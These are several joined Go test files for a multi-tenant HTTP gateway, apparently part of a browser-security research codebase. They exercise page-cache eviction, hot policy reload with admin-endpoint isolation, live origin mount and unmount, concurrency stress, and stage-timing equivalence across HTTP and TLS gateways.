	if ls, hs := lightVH.served.Value(), heavyVH.served.Value(); ls != 2 || hs != 4 {
		t.Fatalf("served: light=%d heavy=%d, want 2 and 4", ls, hs)
	}
	if st := g.Stats(); st.Rejected503 != 2 {
		t.Fatalf("Rejected503 = %d, want 2", st.Rejected503)
	}
}

// immutableHandler serves distinct immutable bodies per query.
func immutableHandler() web.Handler {
	return web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(fmt.Sprintf("<html><body>variant %s</body></html>", req.Query().Get("v")))
		resp.Header.Set("Cache-Control", "public, immutable")
		return resp
	})
}

// TestPageCacheLRUEviction pins the bounded cache: past the entry
// bound the coldest variant is evicted (recency refreshed by hits),
// and the evictions counter reports it.
func TestPageCacheLRUEviction(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://fixtures.example")
	n.Register(o, immutableHandler())
	g := startGateway(t, n, Config{CacheMaxEntries: 2})

	fetch := func(v string) string {
		resp := rawGet(t, g, "fixtures.example", "/?v="+v, nil)
		body := readBody(t, resp)
		if resp.StatusCode != 200 {
			t.Fatalf("GET v=%s: %d", v, resp.StatusCode)
		}
		return body
	}

	fetch("1") // fill
	fetch("2") // fill: cache at bound {1,2}
	fetch("1") // hit: refreshes 1's recency
	st := g.Stats().Cache
	if st.Entries != 2 || st.Hits != 1 || st.Misses != 2 || st.Evictions != 0 {
		t.Fatalf("pre-eviction stats: %+v", st)
	}

	fetch("3") // over bound: evicts variant 2 (the coldest), not 1
	st = g.Stats().Cache
	if st.Entries != 2 || st.Evictions != 1 {
		t.Fatalf("post-eviction stats: %+v", st)
	}
	before := st
	fetch("1") // still cached
	fetch("2") // evicted: cold fill again
	st = g.Stats().Cache
	if d := st.Sub(before); d.Hits != 1 || d.Misses != 1 {
		t.Fatalf("recency order wrong: delta %+v", d)
	}
	if st.Bytes <= 0 {
		t.Fatalf("bytes gauge not tracked: %+v", st)
	}
}

// TestPageCacheByteBound pins the size bound: a tiny byte budget evicts
// by size, and an entry larger than the whole budget is declined
// outright (no ETag advertised).
func TestPageCacheByteBound(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://fixtures.example")
	big := strings.Repeat("x", 4096)
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		body := "small " + req.Query().Get("v")
		if req.Query().Get("big") != "" {
			body = big
		}
		resp := web.HTML(body)
		resp.Header.Set("Cache-Control", "public, immutable")
		return resp
	}))
	g := startGateway(t, n, Config{CacheMaxBytes: 256})

	get := func(path string) *http.Response {
		resp := rawGet(t, g, "fixtures.example", path, nil)
		io.Copy(io.Discard, resp.Body) //nolint:errcheck
		resp.Body.Close()
		return resp
	}
	// An entry alone exceeding the budget is declined: no validator.
	if resp := get("/?big=1"); resp.Header.Get("ETag") != "" {
		t.Fatal("oversized entry was cached")
	}
	if st := g.Stats().Cache; st.Entries != 0 {
		t.Fatalf("oversized entry resident: %+v", st)
	}
	// Small variants cache; enough of them trip byte-bound eviction.
	for i := 0; i < 8; i++ {
		get(fmt.Sprintf("/?v=%d", i))
	}
	st := g.Stats().Cache
	if st.Evictions == 0 || st.Bytes > 256 {
		t.Fatalf("byte bound not enforced: %+v", st)
	}
	if !reflect.DeepEqual(st.Sub(st), CacheStats{Entries: st.Entries, Bytes: st.Bytes}) {
		t.Fatalf("Sub must zero the counters and keep gauges: %+v", st.Sub(st))
	}
}

// TestPageCacheGetPutRace hammers one key from concurrent readers and
// writers; run under -race this pins that get reads the entry under
// the lock while put mutates it in place.
func TestPageCacheGetPutRace(t *testing.T) {
	c := newPageCache(8, 1<<20)
	key := pageKey{host: "x.example", path: "/"}
	resp := web.HTML("<html><body>fixture</body></html>")
	resp.Header.Set("Cache-Control", "public, immutable")
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 500; j++ {
				c.put(key, resp)
			}
		}()
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 500; j++ {
				if page, ok := c.get(key); ok && page.status != 200 {
					t.Error("torn read")
					return
				}
			}
		}()
	}
	wg.Wait()
}
