package httpd

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/ctlplane"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// postReload POSTs a policy document at the admin reload endpoint.
func postReload(t *testing.T, g *Gateway, doc policy.Policy) (*http.Response, ctlplane.ReloadResult) {
	t.Helper()
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatalf("marshal policy: %v", err)
	}
	resp, err := http.Post("http://"+g.Addr()+"/policyz/reload", "application/json", bytes.NewReader(data))
	if err != nil {
		t.Fatalf("POST reload: %v", err)
	}
	var res ctlplane.ReloadResult
	if resp.StatusCode == http.StatusOK {
		if err := json.NewDecoder(resp.Body).Decode(&res); err != nil {
			t.Fatalf("decoding reload result: %v", err)
		}
	}
	return resp, res
}

func fetchPolicyzDoc(t *testing.T, g *Gateway, query string) policyzJSON {
	t.Helper()
	resp := rawGet(t, g, g.Addr(), "/policyz"+query, nil)
	var doc policyzJSON
	if err := json.Unmarshal([]byte(readBody(t, resp)), &doc); err != nil {
		t.Fatalf("policyz JSON: %v", err)
	}
	return doc
}

// TestPolicyReloadSwapsLive pins the hot-reload contract: a valid
// document swaps atomically (generation and revision bump, PolicyPath
// serves the new bytes immediately), an invalid one is rejected with
// the old document untouched at the old generation.
func TestPolicyReloadSwapsLive(t *testing.T) {
	n := web.NewNetwork()
	forum := origin.MustParse("http://forum.example")
	n.Register(forum, echoHandler("forum"))
	doc := forumPolicy(forum)
	g := startGateway(t, n, Config{
		Origins: map[string]OriginConfig{forum.String(): {Policy: &doc}},
	})

	if got := fetchPolicyzDoc(t, g, ""); got.Generation != 1 {
		t.Fatalf("generation after mount = %d, want 1", got.Generation)
	}

	// Invalid document: rejected before the swap, nothing moves.
	bad := forumPolicy(forum)
	bad.Version = 99
	resp, _ := postReload(t, g, bad)
	io.Copy(io.Discard, resp.Body) //nolint:errcheck
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("invalid reload: status %d, want 422", resp.StatusCode)
	}
	after := fetchPolicyzDoc(t, g, "")
	if after.Generation != 1 || !after.Policies[forum.String()].Equal(doc) {
		t.Fatalf("rejected reload disturbed the store: gen=%d", after.Generation)
	}

	// Valid document: generation 2, revision 2, and the well-known
	// path serves the new bytes from the instant the swap lands.
	next := forumPolicy(forum)
	next.MaxRing = 2
	resp, res := postReload(t, g, next)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || res.Generation != 2 || res.Rev != 2 {
		t.Fatalf("reload: status %d result %+v, want 200 gen=2 rev=2", resp.StatusCode, res)
	}
	served := rawGet(t, g, "forum.example", PolicyPath, nil)
	got, err := policy.Parse([]byte(readBody(t, served)))
	if err != nil || !got.Equal(next) {
		t.Fatalf("PolicyPath after reload: %v, maxring=%d want 2", err, got.MaxRing)
	}

	// A document for an unmounted origin is refused: the control plane
	// pushes versions to mounted tenants, it does not mount new ones.
	stray := forumPolicy(origin.MustParse("http://stray.example"))
	resp, _ = postReload(t, g, stray)
	io.Copy(io.Discard, resp.Body) //nolint:errcheck
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unmounted-origin reload: status %d, want 404", resp.StatusCode)
	}

	// GET on the reload path is refused.
	getResp := rawGet(t, g, g.Addr(), "/policyz/reload", nil)
	io.Copy(io.Discard, getResp.Body) //nolint:errcheck
	getResp.Body.Close()
	if getResp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET reload: status %d, want 405", getResp.StatusCode)
	}
}

// TestReloadUnreachableFromWebOrigin pins the admin isolation: the
// reload path under a mounted origin's Host header lands on that
// origin's handler like any other path — a web-reachable Host can
// never push policy.
func TestReloadUnreachableFromWebOrigin(t *testing.T) {
	n := web.NewNetwork()
	forum := origin.MustParse("http://forum.example")
	n.Register(forum, echoHandler("forum"))
	doc := forumPolicy(forum)
	g := startGateway(t, n, Config{
		Origins: map[string]OriginConfig{forum.String(): {Policy: &doc}},
	})

	data, _ := json.Marshal(forumPolicy(forum))
	req, _ := http.NewRequest("POST", "http://"+g.Addr()+"/policyz/reload", bytes.NewReader(data))
	req.Host = "forum.example"
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	body := readBody(t, resp)
	if !strings.Contains(body, "host=forum") {
		t.Fatalf("web-origin reload did not fall through to the vhost: %q", body)
	}
	if gen := g.Policies().Generation(); gen != 1 {
		t.Fatalf("web-origin reload moved the generation to %d", gen)
	}
}

// TestPolicyzWaitLongPoll pins the propagation wire: a ?wait poll
// parks until the generation moves, then answers with the new
// snapshot; an already-passed generation answers immediately; an
// expiring hold answers with the unchanged snapshot.
func TestPolicyzWaitLongPoll(t *testing.T) {
	n := web.NewNetwork()
	forum := origin.MustParse("http://forum.example")
	n.Register(forum, echoHandler("forum"))
	doc := forumPolicy(forum)
	g := startGateway(t, n, Config{
		Origins: map[string]OriginConfig{forum.String(): {Policy: &doc}},
	})

	// Already passed: answers now.
	if got := fetchPolicyzDoc(t, g, "?wait=0"); got.Generation != 1 {
		t.Fatalf("wait=0 answered generation %d, want 1", got.Generation)
	}

	// Parked until the reload lands.
	type answer struct {
		doc policyzJSON
		dur time.Duration
	}
	got := make(chan answer, 1)
	start := time.Now()
	go func() {
		resp, err := http.Get("http://" + g.Addr() + "/policyz?wait=1&timeout=10000")
		if err != nil {
			return
		}
		defer resp.Body.Close()
		var doc policyzJSON
		if json.NewDecoder(resp.Body).Decode(&doc) == nil {
			got <- answer{doc: doc, dur: time.Since(start)}
		}
	}()
	time.Sleep(25 * time.Millisecond)
	next := forumPolicy(forum)
	next.MaxRing = 2
	resp, _ := postReload(t, g, next)
	resp.Body.Close()
	select {
	case a := <-got:
		if a.doc.Generation != 2 {
			t.Fatalf("long poll answered generation %d, want 2", a.doc.Generation)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("long poll never woke on the reload")
	}

	// Expiring hold: answers with the unchanged generation.
	if got := fetchPolicyzDoc(t, g, "?wait=99&timeout=50"); got.Generation != 2 {
		t.Fatalf("expired wait answered generation %d, want 2", got.Generation)
	}
}

// TestUnmountLive pins live removal: the origin stops routing (marked
// no-server 502, the in-memory unregistered contract), a requester
// parked on its queue is rescued, the rest of the fleet is untouched,
// and the policy store drops the document.
func TestUnmountLive(t *testing.T) {
	n := web.NewNetwork()
	stay := origin.MustParse("http://stay.example")
	leave := origin.MustParse("http://leave.example")
	n.Register(stay, echoHandler("stay"))
	release := make(chan struct{})
	started := make(chan struct{}, 4)
	n.Register(leave, web.HandlerFunc(func(req *web.Request) *web.Response {
		started <- struct{}{}
		<-release
		return web.HTML("done")
	}))

	leaveDoc := scenarios.Policy(leave)
	g, err := New(Config{Inner: n})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if err := g.Mount(stay); err != nil {
		t.Fatalf("Mount stay: %v", err)
	}
	if err := g.MountOpts(leave, OriginConfig{Workers: 1, QueueDepth: 4, Policy: &leaveDoc}); err != nil {
		t.Fatalf("Mount leave: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })
	var releaseOnce sync.Once
	releaseFn := func() { releaseOnce.Do(func() { close(release) }) }
	t.Cleanup(releaseFn)

	// Wedge the single worker (request A), then park request B on the
	// queue.
	codes := make(chan int, 2)
	get := func(host string) int {
		req, _ := http.NewRequest("GET", "http://"+g.Addr()+"/", nil)
		req.Host = host
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return -1
		}
		io.Copy(io.Discard, resp.Body) //nolint:errcheck
		resp.Body.Close()
		return resp.StatusCode
	}
	var wg sync.WaitGroup
	wg.Add(1)
	go func() { defer wg.Done(); codes <- get("leave.example") }()
	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("wedged handler never started")
	}
	vh := g.table.Load().byOrigin[leave]
	wg.Add(1)
	go func() { defer wg.Done(); codes <- get("leave.example") }()
	deadline := time.Now().Add(5 * time.Second)
	for len(vh.jobs) < 1 {
		if time.Now().After(deadline) {
			t.Fatal("request B never reached the queue")
		}
		time.Sleep(time.Millisecond)
	}

	g.Unmount(leave)

	// B was parked on the retired queue: its requester must be rescued
	// with the no-server contract, not strand. (A raced the unmount
	// inside its handler; either answer is legitimate for it.)
	saw502 := false
	for i := 0; i < 2; i++ {
		if i == 1 {
			releaseFn() // unwedge A after B's rescue had its chance
		}
		select {
		case c := <-codes:
			if c == 502 {
				saw502 = true
			}
		case <-time.After(5 * time.Second):
			t.Fatal("request stranded across Unmount")
		}
	}
	if !saw502 {
		t.Fatal("no requester saw the no-server rescue")
	}

	// New requests to the unmounted origin take the fallback path: the
	// inner network has a handler registered, so they still answer —
	// but the vhost (queue, workers, policy) is gone.
	if _, _, ok := g.Policies().Get(leave.String()); ok {
		t.Fatal("unmounted origin's policy still in the store")
	}
	if _, mounted := g.table.Load().byOrigin[leave]; mounted {
		t.Fatal("unmounted origin still in the table")
	}

	// The rest of the fleet never noticed.
	if code := get("stay.example"); code != 200 {
		t.Fatalf("neighbor origin answered %d after unmount", code)
	}
}

// TestMountChurnUnderLoad hammers live mount/unmount against steady
// traffic: the COW table swap must never disturb an established
// tenant, and the race detector audits the lock-free read path.
func TestMountChurnUnderLoad(t *testing.T) {
	n := web.NewNetwork()
	stable := origin.MustParse("http://stable.example")
	n.Register(stable, echoHandler("stable"))
	churn := make([]origin.Origin, 16)
	for i := range churn {
		churn[i] = origin.MustParse(fmt.Sprintf("http://churn-%02d.example", i))
		n.Register(churn[i], echoHandler("churn"))
	}
	g := startGateway(t, n, Config{DefaultWorkers: 1, DefaultQueueDepth: 8})

	stop := make(chan struct{})
	var wg sync.WaitGroup
	// Steady traffic against the stable tenant.
	var served, failed int
	wg.Add(1)
	go func() {
		defer wg.Done()
		client := &http.Client{Timeout: 5 * time.Second}
		for {
			select {
			case <-stop:
				return
			default:
			}
			req, _ := http.NewRequest("GET", "http://"+g.Addr()+"/p", nil)
			req.Host = "stable.example"
			resp, err := client.Do(req)
			if err != nil {
				failed++
				continue
			}
			io.Copy(io.Discard, resp.Body) //nolint:errcheck
			resp.Body.Close()
			if resp.StatusCode == 200 {
				served++
			} else {
				failed++
			}
		}
	}()
	// Four churners mounting and unmounting their own slice.
	for c := 0; c < 4; c++ {
		c := c
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				o := churn[(c*4+i)%len(churn)]
				doc := scenarios.Policy(o)
				if err := g.MountOpts(o, OriginConfig{Workers: 1, QueueDepth: 2, Policy: &doc}); err == nil {
					// Mounted tenants must route while mounted.
					req, _ := http.NewRequest("GET", "http://"+g.Addr()+"/p", nil)
					req.Host = hostKey(o)
					if resp, err := http.DefaultClient.Do(req); err == nil {
						io.Copy(io.Discard, resp.Body) //nolint:errcheck
						resp.Body.Close()
					}
					g.Unmount(o)
				}
			}
		}()
	}
	time.Sleep(250 * time.Millisecond)
	close(stop)
	wg.Wait()
	if failed > 0 || served == 0 {
		t.Fatalf("stable tenant disturbed by churn: served=%d failed=%d", served, failed)
	}
}

// TestThousandTenantsMounted mounts well past a thousand
// template-stamped tenants on one gateway and proves the fleet routes,
// reports, and serves policy at that scale.
func TestThousandTenantsMounted(t *testing.T) {
	const tenants = 1024
	n := web.NewNetwork()
	origins := scenarios.RegisterTenants(n, tenants)
	g, err := New(Config{Inner: n, DefaultWorkers: 1, DefaultQueueDepth: 4})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	for _, o := range origins {
		doc := scenarios.Policy(o)
		if err := g.MountOpts(o, OriginConfig{Workers: 1, QueueDepth: 4, Policy: &doc}); err != nil {
			t.Fatalf("MountOpts %s: %v", o, err)
		}
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })

	resp := rawGet(t, g, "", "/healthz", nil)
	var health healthzJSON
	if err := json.Unmarshal([]byte(readBody(t, resp)), &health); err != nil {
		t.Fatalf("healthz: %v", err)
	}
	if health.Origins != tenants {
		t.Fatalf("healthz origins = %d, want %d", health.Origins, tenants)
	}

	// Sampled probes across the fleet: every sampled tenant routes and
	// serves its own policy document.
	for _, i := range []int{0, 1, tenants / 2, tenants - 1} {
		o := origins[i]
		page := rawGet(t, g, hostKey(o), "/s1", nil)
		if body := readBody(t, page); page.StatusCode != 200 || !strings.Contains(body, "<html") {
			t.Fatalf("tenant %d: status %d", i, page.StatusCode)
		}
		pol := rawGet(t, g, hostKey(o), PolicyPath, nil)
		got, err := policy.Parse([]byte(readBody(t, pol)))
		if err != nil || got.Origin != o.String() {
			t.Fatalf("tenant %d policy: %v (origin %q)", i, err, got.Origin)
		}
	}

	// The control plane carries all of them: one mount = one
	// generation bump, every document listed.
	doc := fetchPolicyzDoc(t, g, "")
	if doc.Generation != tenants || len(doc.Policies) != tenants {
		t.Fatalf("policyz: generation=%d documents=%d, want %d/%d",
			doc.Generation, len(doc.Policies), tenants, tenants)
	}
}
