package httpd

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"repro/internal/browser"
	"repro/internal/engine"
	"repro/internal/origin"
	"repro/internal/web"
)

// TestGatewayHammer pounds one gateway from many concurrent clients
// across three origins with heterogeneous handlers — an immutable
// cacheable fixture, a Set-Cookie-issuing app, and a plain echo — so
// the vhost table, worker queues, page cache, and stats counters all
// see real contention. Run under -race this is the gateway's data-race
// regression test.
func TestGatewayHammer(t *testing.T) {
	n := web.NewNetwork()
	fixtureO := origin.MustParse("http://fixture.example")
	n.Register(fixtureO, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML("<html><body><p>immutable fixture</p></body></html>")
		resp.Header.Set("Cache-Control", "public, immutable")
		return resp
	}))
	appO := origin.MustParse("http://app.example")
	n.Register(appO, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML("<html><body><p>app page</p></body></html>")
		if _, has := req.Cookie("sid"); !has {
			resp.Header.Add("Set-Cookie", "sid=tok; Path=/")
		}
		return resp
	}))
	echoO := origin.MustParse("http://echo.example")
	n.Register(echoO, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body><p>" + req.Query().Get("q") + "</p></body></html>")
	}))

	g := startGateway(t, n, Config{DefaultWorkers: 4, DefaultQueueDepth: 256})

	const clients = 8
	const rounds = 20
	var wg sync.WaitGroup
	errs := make(chan error, clients)
	for c := 0; c < clients; c++ {
		c := c
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Each client owns its transport and browser — separate
			// sockets, separate jars — like independent users.
			ct := NewClientTransport(g.Addr())
			defer ct.Close()
			b := browser.New(ct, browser.Options{Mode: browser.ModeEscudo, DisableRender: true})
			for r := 0; r < rounds; r++ {
				var target string
				switch (c + r) % 3 {
				case 0:
					target = fixtureO.URL("/")
				case 1:
					target = appO.URL("/")
				default:
					target = echoO.URL(fmt.Sprintf("/?q=c%dr%d", c, r))
				}
				if _, err := b.Navigate(target); err != nil {
					errs <- fmt.Errorf("client %d round %d: %w", c, r, err)
					return
				}
			}
			errs <- nil
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}

	st := g.Stats()
	if want := uint64(clients * rounds); st.Served != want {
		t.Fatalf("served %d, want %d", st.Served, want)
	}
	if st.Rejected503 != 0 {
		t.Fatalf("unexpected 503s under sized queues: %d", st.Rejected503)
	}
	if st.Cache.Hits == 0 {
		t.Fatalf("fixture origin never hit the page cache: %+v", st.Cache)
	}

	// Concurrent metricsz reads race the counters on purpose.
	resp := rawGet(t, g, "", "/metricsz", nil)
	if body := readBody(t, resp); !strings.Contains(body, "http://fixture.example") {
		t.Fatalf("metricsz missing origin rows: %s", body)
	}
}

// TestEnginePoolOverGateway runs the engine's session pool with its
// transport pointed at the gateway — the exact client/server split the
// load driver uses — and checks the pool's stats pipeline end to end.
func TestEnginePoolOverGateway(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://pool.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body><p>pooled</p></body></html>")
	}))
	g := startGateway(t, n, Config{})
	ct := NewClientTransport(g.Addr())
	defer ct.Close()

	pool, err := engine.NewPool(engine.Config{
		Sessions:  4,
		Transport: ct,
		Options:   browser.Options{Mode: browser.ModeEscudo, DisableRender: true},
	})
	if err != nil {
		t.Fatalf("NewPool: %v", err)
	}
	defer pool.Close()

	for i := 0; i < 32; i++ {
		if err := pool.Submit(func(s *engine.Session) error {
			_, err := s.Browser.Navigate(o.URL("/"))
			return err
		}); err != nil {
			t.Fatalf("Submit: %v", err)
		}
	}
	pool.Wait()
	st := pool.Stats()
	if st.Tasks != 32 || len(st.Errors) != 0 {
		t.Fatalf("pool stats over gateway: tasks %d errors %v", st.Tasks, st.Errors)
	}
	if g.Stats().Served != 32 {
		t.Fatalf("gateway served %d, want 32", g.Stats().Served)
	}
}
