package httpd

import (
	"crypto/tls"
	"encoding/json"
	"net/http"
	"reflect"
	"testing"
	"time"

	"repro/internal/browser"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/web"
)

// timedFixedSession mirrors the engine's task harness: a trace and a
// stage clock installed for the run, the finished clock folded into
// the set and the slow ring after — the exact wiring engine.Pool uses
// when Config.Stages is set.
func timedFixedSession(t *testing.T, transport web.Transport, bench, forumO origin.Origin, topic int,
	ring *obs.DecisionRing, stages *obs.StageSet, slow *obs.SlowRing, phase string) (*browser.Browser, *obs.Trace) {
	t.Helper()
	b := browser.New(transport, browser.Options{Mode: browser.ModeEscudo, DecisionRing: ring})
	tr := obs.NewTrace()
	b.SetTrace(tr)
	clock := obs.NewStageClock()
	b.SetStageClock(clock)
	start := time.Now()
	driveFixedWorkload(t, b, bench, forumO, topic)
	d := time.Since(start)
	b.SetStageClock(nil)
	b.SetTrace(nil)
	stages.Record(clock)
	slow.Record(phase, tr.ID(), d, clock.Snapshot())
	return b, tr
}

// fetchSlowz queries the admin /slowz endpoint and decodes the
// document.
func fetchSlowz(t *testing.T, client *http.Client, scheme, addr, query string) slowzJSON {
	t.Helper()
	resp, err := client.Get(scheme + "://" + addr + "/slowz" + query)
	if err != nil {
		t.Fatalf("GET /slowz: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /slowz: status %d", resp.StatusCode)
	}
	var doc slowzJSON
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		t.Fatalf("decoding /slowz: %v", err)
	}
	return doc
}

// TestStageTimingEquivalence extends the transport-equivalence
// invariant to the timing layer (invariant 9): with a stage clock,
// stage set, and slow ring wired the way the engine wires them, the
// decision sequence is identical to the untimed baseline over the
// in-memory network, a plain HTTP gateway, and a TLS/h2 gateway. On
// every leg the browser-side stages accrue real time, on the gateway
// legs the gateway-side stages do too, and the retained exemplar's
// trace ID resolves against the same gateway's /tracez — the
// "every p99 carries a real trace" contract.
func TestStageTimingEquivalence(t *testing.T) {
	// Untimed baseline: the exact sessions the existing equivalence
	// tests pin.
	baseNet, bBench, bForumO, bTopic := buildSubstrate()
	baseline := runFixedSession(t, baseNet, bBench, bForumO, bTopic)
	baseTally := auditTally(baseline)
	baseLen := baseline.Audit.Len()
	if baseLen == 0 {
		t.Fatal("baseline session recorded no decisions; workload broken")
	}

	assertBrowserStages := func(t *testing.T, leg string, stages *obs.StageSet) {
		t.Helper()
		for _, st := range []obs.Stage{obs.StageBatchAuth, obs.StageScriptVM, obs.StageRender} {
			if got := stages.Hist(st).Snapshot().Total(); got == 0 {
				t.Errorf("%s: stage %s recorded no observations", leg, st)
			}
		}
	}

	// Leg 1: timed over the in-memory web.Network — no gateway, so
	// only the browser-side stages accrue.
	memNet, mBench, mForumO, mTopic := buildSubstrate()
	memStages := obs.NewStageSet(obs.NewRegistry())
	memSlow := obs.NewSlowRing(0)
	memB, _ := timedFixedSession(t, memNet, mBench, mForumO, mTopic,
		obs.NewDecisionRing(0), memStages, memSlow, "mem")
	if got := memB.Audit.Len(); got != baseLen {
		t.Fatalf("in-memory timed decision count %d, untimed %d", got, baseLen)
	}
	if got := auditTally(memB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("in-memory timed tally diverges:\n  untimed: %v\n  timed:   %v", baseTally, got)
	}
	assertBrowserStages(t, "in-memory", memStages)
	for _, st := range []obs.Stage{obs.StageQueueWait, obs.StageHandler, obs.StageTranslate} {
		if got := memStages.Hist(st).Snapshot().Total(); got != 0 {
			t.Errorf("in-memory: gateway-only stage %s recorded %d observations", st, got)
		}
	}

	// Leg 2: timed over a plain HTTP gateway sharing the stage set and
	// slow ring, exemplar recovered from /slowz and joined via /tracez.
	httpNet, hBench, hForumO, hTopic := buildSubstrate()
	httpRing := obs.NewDecisionRing(0)
	httpReg := obs.NewRegistry()
	httpStages := obs.NewStageSet(httpReg)
	httpSlow := obs.NewSlowRing(0)
	hg := startGateway(t, httpNet, Config{Obs: httpReg, Ring: httpRing, Stages: httpStages, Slow: httpSlow})
	hct := NewClientTransport(hg.Addr())
	defer hct.Close()
	httpB, httpTr := timedFixedSession(t, hct, hBench, hForumO, hTopic,
		httpRing, httpStages, httpSlow, "http")
	if got := httpB.Audit.Len(); got != baseLen {
		t.Fatalf("http timed decision count %d, untimed %d", got, baseLen)
	}
	if got := auditTally(httpB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("http timed tally diverges:\n  untimed: %v\n  timed:   %v", baseTally, got)
	}
	assertBrowserStages(t, "http", httpStages)
	for _, st := range []obs.Stage{obs.StageQueueWait, obs.StageHandler, obs.StageTranslate} {
		if got := httpStages.Hist(st).Snapshot().Total(); got == 0 {
			t.Errorf("http: gateway stage %s recorded no observations", st)
		}
	}
	doc := fetchSlowz(t, http.DefaultClient, "http", hg.Addr(), "?phase=http")
	if len(doc.Exemplars) == 0 {
		t.Fatal("/slowz retained no exemplar for the timed session")
	}
	if doc.Exemplars[0].TraceID != httpTr.ID() {
		t.Fatalf("/slowz exemplar trace %s, want %s", doc.Exemplars[0].TraceID, httpTr.ID())
	}
	// The exemplar's trace must resolve on the same gateway's /tracez.
	tdoc := fetchTracez(t, http.DefaultClient, "http", hg.Addr(), "?trace="+doc.Exemplars[0].TraceID)
	if tdoc.Matched == 0 {
		t.Fatalf("/slowz exemplar trace %s resolves to no /tracez events", doc.Exemplars[0].TraceID)
	}
	// The gateway's own per-request exemplars land under the "gateway"
	// phase beside the session-level one.
	gdoc := fetchSlowz(t, http.DefaultClient, "http", hg.Addr(), "?phase=gateway")
	if len(gdoc.Exemplars) == 0 {
		t.Fatal("/slowz retained no gateway-phase exemplars for traced requests")
	}

	// Leg 3: timed over a TLS gateway negotiating h2.
	tlsNet, tBench, tForumO, tTopic := buildSubstrate()
	tlsRing := obs.NewDecisionRing(0)
	tlsReg := obs.NewRegistry()
	tlsStages := obs.NewStageSet(tlsReg)
	tlsSlow := obs.NewSlowRing(0)
	tg, ca := startGatewayTLS(t, tlsNet, Config{Obs: tlsReg, Ring: tlsRing, Stages: tlsStages, Slow: tlsSlow})
	tct := NewClientTransportTLS(tg.Addr(), ca.Pool())
	defer tct.Close()
	tlsB, tlsTr := timedFixedSession(t, tct, tBench, tForumO, tTopic,
		tlsRing, tlsStages, tlsSlow, "tls")
	if st := tct.Stats(); st.Proto() != "h2" {
		t.Fatalf("TLS leg did not negotiate h2 (proto %q)", st.Proto())
	}
	if got := tlsB.Audit.Len(); got != baseLen {
		t.Fatalf("tls/h2 timed decision count %d, untimed %d", got, baseLen)
	}
	if got := auditTally(tlsB); !reflect.DeepEqual(baseTally, got) {
		t.Fatalf("tls/h2 timed tally diverges:\n  untimed: %v\n  timed:   %v", baseTally, got)
	}
	assertBrowserStages(t, "tls/h2", tlsStages)
	tlsClient := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: ca.Pool()}}}
	sdoc := fetchSlowz(t, tlsClient, "https", tg.Addr(), "?phase=tls")
	if len(sdoc.Exemplars) == 0 || sdoc.Exemplars[0].TraceID != tlsTr.ID() {
		t.Fatalf("tls/h2 /slowz exemplars %+v, want trace %s", sdoc.Exemplars, tlsTr.ID())
	}
}

// TestSlowzFiltersAndGating pins /slowz's admin isolation (a mounted
// origin's Host never reaches it; deployments without a slow ring
// 404) and its phase filter — the same surface contract /tracez pins
// for the decision ring.
func TestSlowzFiltersAndGating(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://slowz-origin.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>ok</body></html>")
	}))

	// No slow ring wired: admin /slowz is 404, like /tracez without a
	// decision ring.
	bare := startGateway(t, n, Config{})
	resp := rawGet(t, bare, "", "/slowz", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("/slowz without a ring: status %d, want 404", resp.StatusCode)
	}

	slow := obs.NewSlowRing(2)
	var spans [obs.NumStages]int64
	spans[obs.StageHandler] = int64(3 * time.Millisecond)
	slow.Record("alpha", "t-slow-1", 5*time.Millisecond, spans)
	slow.Record("alpha", "t-slow-2", 9*time.Millisecond, spans)
	slow.Record("beta", "t-slow-3", 2*time.Millisecond, [obs.NumStages]int64{})
	g := startGateway(t, n, Config{Slow: slow})

	doc := fetchSlowz(t, http.DefaultClient, "http", g.Addr(), "")
